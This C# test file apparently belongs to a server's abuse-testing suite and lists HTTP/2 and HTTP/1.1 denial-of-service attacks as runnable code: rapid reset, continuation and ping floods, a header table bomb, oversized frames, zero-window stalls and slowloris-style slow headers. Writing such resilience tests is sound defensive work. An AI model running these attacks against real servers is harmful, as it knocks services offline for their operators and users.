using System.Net.Sockets;
using System.Text;

namespace Vectron.PlacementDriver.Testing.Abuse;

/// <summary>A way to abuse HTTP, on one connection, until the server hangs up or <paramref name="RunAsync"/> is done.</summary>
/// <param name="Name">What it is called.</param>
/// <param name="Door">Which listener it is for: grpc or http.</param>
/// <param name="RunAsync">Does it once. It may be cut short at any time.</param>
public sealed record Attack(string Name, string Door, Func<Uri, CancellationToken, Task> RunAsync)
{
    private const byte EndStream = 0x1;
    private const byte EndHeaders = 0x4;

    private static readonly byte[] Call = RawHttp2.CallHeaders("ListWorkers");

    /// <summary>All of them.</summary>
    public static IReadOnlyList<Attack> All { get; } =
    [
        Frames("rapid reset", 20_000, (connection, i) =>
        {
            connection.Frame(FrameType.Headers, EndHeaders, Stream(i), Call);
            connection.Frame(FrameType.ResetStream, 0, Stream(i), [0, 0, 0, 8]);
        }),
        Frames("reset by the server", 20_000, (connection, i) =>
        {
            connection.Frame(FrameType.Headers, EndHeaders, Stream(i), Call);
            connection.Frame(FrameType.WindowUpdate, 0, Stream(i), [0, 0, 0, 0]);
        }),
        Frames("continuation flood", 50_000, (connection, i) => connection.Frame(
            i == 0 ? FrameType.Headers : FrameType.Continuation, 0, 1, i == 0 ? Call : RawHttp2.Field($"x-{i}", "y"))),
        Frames("empty continuations", 100_000, (connection, i) => connection.Frame(
            i == 0 ? FrameType.Headers : FrameType.Continuation, 0, 1, i == 0 ? Call : [])),
        Frames("ping flood", 200_000, (connection, i) => connection.Frame(FrameType.Ping, 0, 0, BitConverter.GetBytes((long)i))),
        Frames("settings flood", 100_000, (connection, i) => connection.Frame(
            FrameType.Settings, 0, 0, [0, 4, 0, 0, 0xff, (byte)i, 0, 1, 0, 0, 0x10, (byte)i])),
        Frames("priority flood", 200_000, (connection, i) => connection.Frame(FrameType.Priority, 0, Stream(i), [0, 0, 0, 0, 16])),
        Frames("window updates", 200_000, (connection, _) => connection.Frame(FrameType.WindowUpdate, 0, 0, [0, 0, 0, 1])),
        Frames("empty data", 200_000, (connection, i) =>
        {
            if (i == 0)
            {
                connection.Frame(FrameType.Headers, EndHeaders, 1, Call);
            }

            connection.Frame(FrameType.Data, 0, 1, []);
        }),
        Frames("large headers", 100, (connection, i) => connection.Frame(
            i == 0 ? FrameType.Headers : FrameType.Continuation, 0, 1, RawHttp2.Field($"x-{i}", new string('y', 16_000)))),
        Frames("header table bomb", 2_000, (connection, i) => connection.Frame(
            FrameType.Headers,
            EndHeaders | EndStream,
            Stream(i),
            [.. i == 0 ? RawHttp2.IndexedField("x", new string('y', 3_900)) : [], .. Enumerable.Repeat((byte)0xbe, 10_000)])),
        Frames("frame larger than allowed", 1, (connection, _) => connection.Frame(
            FrameType.Headers, EndHeaders, 1, new byte[1 << 20], saidLength: (1 << 24) - 1)),
        Frames("message larger than allowed", 2_000, (connection, i) =>
        {
            if (i == 0)
            {
                connection.Frame(FrameType.Headers, EndHeaders, 1, Call);
                connection.Frame(FrameType.Data, 0, 1, [0, 0x7f, 0xff, 0xff, 0xff]);
            }

            connection.Frame(FrameType.Data, 0, 1, new byte[16_000]);
        }),
        new("answers that nobody takes", "grpc", async (server, cancellation) =>
        {
            // SETTINGS_INITIAL_WINDOW_SIZE of 0: the server may not send a byte of an answer.
            await using var connection = await RawHttp2.ConnectAsync(server, cancellation, 0, 4, 0, 0, 0, 0).ConfigureAwait(false);
            for (var i = 0; i < 10_000; i++)
            {
                connection.Frame(FrameType.Headers, EndHeaders, Stream(i), Call);
                connection.Frame(FrameType.Data, EndStream, Stream(i), [0, 0, 0, 0, 0]);
                await connection.FlushWhenLargeAsync(cancellation).ConfigureAwait(false);
            }

            await connection.FlushAsync(cancellation).ConfigureAwait(false);
            await Task.Delay(Timeout.Infinite, cancellation).ConfigureAwait(false);
        }),
        Slow("slow headers", "grpc", async (server, cancellation) =>
        {
            var connection = await RawHttp2.ConnectAsync(server, cancellation).ConfigureAwait(false);
            connection.Frame(FrameType.Headers, 0, 1, Call);
            await connection.FlushAsync(cancellation).ConfigureAwait(false);
            return connection;
        }),
        Slow("slow headers of HTTP/1.1", "http", async (server, cancellation) =>
        {
            var stream = await ConnectAsync(server, cancellation).ConfigureAwait(false);
            await stream.WriteAsync(Encoding.ASCII.GetBytes("GET /readyz HTTP/1.1\r\nHost: localhost\r\nX-Slow: "), cancellation).ConfigureAwait(false);
            return stream;
        }),
        new("large headers of HTTP/1.1", "http", async (server, cancellation) =>
        {
            await using var stream = await ConnectAsync(server, cancellation).ConfigureAwait(false);
            await stream.WriteAsync(Encoding.ASCII.GetBytes("GET /readyz HTTP/1.1\r\nHost: localhost\r\n"), cancellation).ConfigureAwait(false);
            for (var i = 0; i < 1_000; i++)
            {
                await stream.WriteAsync(Encoding.ASCII.GetBytes($"X-{i}: {new string('y', 8_000)}\r\n"), cancellation).ConfigureAwait(false);
            }
        }),
    ];

    /// <summary>Does it once, for as long as it takes or until <paramref name="limit"/>; that the server hangs up is no error.</summary>
    public async Task TryAsync(Uri server, TimeSpan limit)
    {
        using var end = new CancellationTokenSource(limit);
        try
        {
            await RunAsync(server, end.Token).ConfigureAwait(false);
        }
        catch (Exception exception) when (exception is IOException or SocketException or OperationCanceledException)
        {
            // Hung up on, or held off until the end.
        }
    }

    /// <inheritdoc/>
    public override string ToString() => Name;

    private static int Stream(int i) => (2 * i) + 1;

    private static Attack Frames(string name, int count, Action<RawHttp2, int> add) => new(name, "grpc", async (server, cancellation) =>
    {
        await using var connection = await RawHttp2.ConnectAsync(server, cancellation).ConfigureAwait(false);
        for (var i = 0; i < count; i++)
        {
            add(connection, i);
            await connection.FlushWhenLargeAsync(cancellation).ConfigureAwait(false);
        }

        await connection.FlushAsync(cancellation).ConfigureAwait(false);
    });

    private static Attack Slow(string name, string door, Func<Uri, CancellationToken, Task<IAsyncDisposable>> open) =>
        new(name, door, async (server, cancellation) =>
        {
            var connections = new List<IAsyncDisposable>();
            try
            {
                for (var i = 0; i < 200; i++)
                {
                    connections.Add(await open(server, cancellation).ConfigureAwait(false));
                }

                await Task.Delay(Timeout.Infinite, cancellation).ConfigureAwait(false);
            }
            finally
            {
                foreach (var connection in connections)
                {
                    await connection.DisposeAsync().ConfigureAwait(false);
                }
            }
        });

    private static async Task<NetworkStream> ConnectAsync(Uri server, CancellationToken cancellation)
    {
        var socket = new Socket(SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
        await socket.ConnectAsync(server.Host, server.Port, cancellation).ConfigureAwait(false);
        return new NetworkStream(socket, ownsSocket: true);
    }
}
